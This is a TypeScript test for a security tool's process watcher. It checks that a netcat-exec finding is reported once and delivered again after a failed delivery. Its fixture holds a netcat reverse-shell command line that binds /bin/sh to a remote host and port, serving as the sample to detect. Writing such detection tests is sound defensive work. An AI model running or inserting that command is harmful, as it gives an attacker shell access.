import { afterAll, describe, expect, it } from 'vitest';
import { procEntry, removeTree, writeTree } from '../../test-support/tree.js';
import type { EcsDocument } from '../alert.js';
import { startProcessWatch } from './process-watch.js';

describe('startProcessWatch', () => {
  const root = writeTree({ ...procEntry(10, { name: 'nc', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], exe: '/usr/bin/nc' }) });
  afterAll(() => removeTree(root));

  it('delivers a finding once while it lasts and again after a failed delivery', async () => {
    const delivered: EcsDocument[][] = [];
    let fail = true;
    const watch = startProcessWatch({
      root,
      intervalMs: 3_600_000,
      sampleMs: 1,
      onEvents: async (docs) => {
        if (fail) {
          fail = false;
          throw new Error('server down');
        }
        delivered.push(docs);
      },
    });
    await expect(watch.runOnce()).rejects.toThrow('server down');
    expect((await watch.runOnce()).length).toBe(1);
    expect(await watch.runOnce()).toEqual([]);
    await watch.stop();
    expect(delivered.map((d) => d.map((a) => (a.rule as { id: string }).id))).toEqual([['bulwark.process.netcat-exec']]);
  });
});
